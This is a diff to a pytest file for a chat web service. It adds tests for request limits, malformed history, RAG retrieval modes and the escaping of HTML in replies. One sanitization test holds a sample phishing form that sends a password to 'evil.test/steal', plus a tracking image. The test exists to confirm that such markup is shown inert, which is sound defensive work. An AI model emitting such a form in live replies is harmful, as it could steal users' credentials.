@@ -24,6 +24,7 @@ from webapp.chat import (
     ChatLimits,
     ChatRequest,
     ChatService,
+    Reply,
     answer_markdown,
     conversation,
     sources_markdown,
@@ -131,7 +132,10 @@ def test_each_template_builds_the_prompt_it_promises(service):
     [
         (ChatRequest("   "), "message is empty"),
         (ChatRequest("x" * 9000), "limit is 8000"),
-        (ChatRequest("hi", mode="sample", temperature=-1.0), "temperature must be >= 0"),
+        (
+            ChatRequest("hi", mode="sample", temperature=-1.0),
+            "temperature must be 0 \\(greedy\\) or from",
+        ),
         (ChatRequest("hi", mode="sample", top_p=1.5), "top_p must be in"),
         (
             ChatRequest("hi", mode="beam", num_beams=40),
@@ -357,3 +361,63 @@ def test_a_question_the_documents_do_not_cover_is_answered_so_without_the_model(
     assert final.done and final.text.startswith(NOT_COVERED)
     assert "closest passages: [1] clubs.txt, page 1" in final.text and final.evidence == ()
     assert any("the documents do not cover this" in n for n in final.notices)
+
+
+@pytest.mark.parametrize(
+    ("change", "error"),
+    [
+        (dict(history=[{"role": "user", "content": "hi"}] * 201), "has 201 messages; the limit"),
+        (dict(history=[{"role": "user", "content": "x" * 100_001}] * 2), "200000"),
+        (dict(system_prompt="s" * 8001), "The system prompt has 8001 characters"),
+        (dict(instruction="i" * 8001, template="zero-shot"), "The instruction has 8001"),
+        (dict(examples=[("a" * 5000, "b" * 5000)], template="few-shot"), "few-shot example 1"),
+        (dict(history="not a list"), "history must be a list"),
+        (dict(seed=2**70), "seed must be empty or a whole number"),
+        (dict(seed=float("inf")), "not a usable number"),
+        (dict(mode="sample", temperature=1e-300), "temperature must be 0 \\(greedy\\) or from"),
+    ],
+)
+def test_oversized_or_unusable_requests_are_refused_before_the_model(service, change, error):
+    with pytest.raises(ChatInputError, match=error):
+        service.check(ChatRequest("Hello", **change))
+
+
+def test_history_of_non_messages_is_ignored_not_a_crash(service):
+    history = ["text", 3, None, {"role": "user", "content": "Hi"}]
+    prepared = service.prepare(ChatRequest("Hello", history=history, max_new_tokens=2))
+    assert prepared.messages[-2:] == [
+        {"role": "user", "content": "Hi"},
+        {"role": "user", "content": "Hello"},
+    ]
+
+
+def test_replies_are_shown_without_live_html_and_round_trip_as_written():
+    text = (
+        'Log in here: <form action="http://evil.test/steal"><input name="pw"></form> '
+        "![logo](http://evil.test/track.png) and a <b>bold</b> claim & more."
+    )
+    md = answer_markdown(Reply(text))
+    assert "<form" not in md and "<input" not in md and "<b>" not in md
+    assert "&lt;form" in md and "!\\[logo](http://evil.test/track.png)" in md
+    assert conversation([{"role": "assistant", "content": md}]) == [
+        {"role": "assistant", "content": text}
+    ]
+
+
+def test_rag_retrieval_mode_is_a_request_field_and_sources_say_why_they_ranked(service, library):
+    pages = ["Set the zorbulate depth with the --zorbulate-depth option.", "Tides at noon."]
+    assert library.add_files("session-a", [("opts.txt", "\f".join(pages).encode())])[0].ok
+    question = "How do I change the zorbulate depth?"
+    default = service.prepare(ChatRequest(question, template="rag"), "session-a")
+    assert default.sources[0].page == 1 and default.sources[0].why.mode == "hybrid+rerank"
+    keyword = service.prepare(
+        ChatRequest(question, template="rag", retrieval="keyword"), "session-a"
+    )
+    assert [(h.page, h.why.mode) for h in keyword.sources] == [(1, "keyword")]  # p2 lacks a word
+    shown = sources_markdown(keyword.sources, keyword.evidence)
+    assert "<details><summary>Why these sources ranked</summary>" in shown
+    assert "\\[1\\] dense 0." in shown and "keyword \\#1" in shown and shown.endswith("</details>")
+    with pytest.raises(ChatInputError, match="retrieval must be one of dense, keyword"):
+        service.prepare(ChatRequest(question, template="rag", retrieval="magic"), "session-a")
+    with pytest.raises(ChatInputError, match="no letters or digits"):
+        service.prepare(ChatRequest("?!? …", template="rag"), "session-a")
